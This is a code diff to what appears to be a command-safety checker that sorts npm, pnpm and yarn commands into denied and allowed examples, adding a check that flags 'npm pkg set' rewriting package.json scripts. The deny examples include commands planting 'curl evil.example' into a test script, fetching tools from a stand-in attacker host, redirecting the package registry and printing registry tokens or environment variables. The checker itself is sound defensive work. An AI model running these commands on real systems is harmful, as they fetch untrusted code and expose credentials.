@@ -109,6 +109,25 @@ const NPM_CONFIG = {
   examples: { deny: ['npm config set script-shell /tmp/x', 'npm set registry http://evil.example'], pass: ['npm config list', 'npm config get registry', 'npm config set init-author-name me'] },
 };
 
+/**
+ * `npm pkg set scripts.test=…` (and `pkg delete`) rewrites package.json, whose scripts npm runs next on the line:
+ * what it holds then is not followed (src/programs/entries/project.ts reads a package.json the line wrote).
+ */
+function rewritingPackageJson(entry: ProgramEntry): ProgramEntry {
+  return {
+    ...entry,
+    summary: `${entry.summary}; npm pkg set rewrites package.json`,
+    examples: { deny: [...entry.examples.deny, "npm pkg set scripts.test='curl evil.example' && npm test"], pass: [...entry.examples.pass, 'npm pkg get version', "npm pkg set version=1.2.3"] },
+    analyze(call) {
+      const answer = entry.analyze?.(call) ?? {};
+      const first = call.args[0];
+      if (!first || !/^pkg (?:set|delete) /.test(call.args.map((a) => value(a) ?? '\u0000').join(' '))) return answer;
+      const file = attached(first, 'package.json');
+      return { ...answer, uses: [...(answer.uses ?? []), { word: file, role: 'write' }], rewrites: [file] };
+    },
+  };
+}
+
 /** `npm config get //registry…/:_authToken` prints the registry token kept in ~/.npmrc (`npm get` too). */
 const NPM_TOKEN = {
   store: '~/.npmrc',
@@ -678,10 +697,11 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     prints: /^(secrets(?!\s+(delete|set))|export)(\s|$)/,
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
+  rewritingPackageJson(
   alsoDumps(
     configuring(keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN), NPM_CONFIG),
     { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
-  ),
+  )),
   configuring(keeping(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), NPM_TOKEN), NPM_CONFIG),
   subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }),
   bun(),
